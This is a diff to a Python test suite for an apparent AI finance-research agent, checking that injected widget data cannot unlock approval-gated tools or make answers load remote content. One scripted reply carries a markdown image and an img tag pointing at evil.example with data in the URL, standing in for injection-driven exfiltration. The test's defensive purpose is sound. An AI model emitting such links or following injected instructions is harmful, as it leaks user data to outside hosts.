@@ -33,6 +33,7 @@ from dexter.cli.open_runtime import open_runtime
 from dexter.config import load_settings
 from dexter.models.scripted import Reply, ScriptedModel, calls
 from dexter.models.types import ModelRequest, ToolMessage, UserMessage
+from dexter.reports.markup import unsafe_markdown
 from dexter.runtime import Runtime
 from dexter.store.sessions import SessionStore
 from dexter.web.openbb import (
@@ -285,6 +286,8 @@ def test_query_streams_steps_the_marked_answer_tables_charts_and_citations(home:
     assert "† 1 figure could not be checked against the data: $99,999 million" in text
     assert "$391,035 million in FY2024" in text and "Fetching" not in text
     assert "**Sources**" in text and "- [S1] SEC EDGAR" in text
+    assert "(<https://www.sec.gov/Archives/edgar/data/320193/" in text
+    assert unsafe_markdown(text) == []
 
     # The statement the run fetched, as a table and charts with the reports' numbers.
     artifacts = [e.data for e in events if isinstance(e, MessageArtifactSSE)]
@@ -342,7 +345,9 @@ def test_widget_data_never_unlocks_a_tool_that_needs_approval(home: Path) -> Non
     def answers(request: ModelRequest) -> Reply:
         refused = [m for m in request.messages if isinstance(m, ToolMessage)]
         assert refused and "permission denied" in refused[-1].content
-        return Reply(text="I cannot fetch that page; Apple's revenue is in its 10-K.")
+        # As if steered by the widget: an image whose address carries data out when shown.
+        pixel = "![chart](https://evil.example/p.png?d=AAPL) <img src=https://evil.example/i>"
+        return Reply(text=f"I cannot fetch that page; Apple's revenue is in its 10-K. {pixel}")
 
     model = ScriptedModel([calls(obeys), answers])
     response = post(runtime_with(model), with_widget_data(json.dumps({"note": INJECTION})))
@@ -363,6 +368,8 @@ def test_widget_data_never_unlocks_a_tool_that_needs_approval(home: Path) -> Non
     assert not offered & {"write_file", "edit_file", "bash", "memory_update", "cron", "watch"}
     text = "".join(e.data.delta for e in events if isinstance(e, MessageChunkSSE))
     assert text.startswith("I cannot fetch that page")
+    # Nothing in the answer loads anything when Workspace renders it: no image, no HTML.
+    assert "evil.example" in text and unsafe_markdown(text) == []
 
 
 def test_queries_without_the_key_or_from_another_site_are_refused(home: Path) -> None:
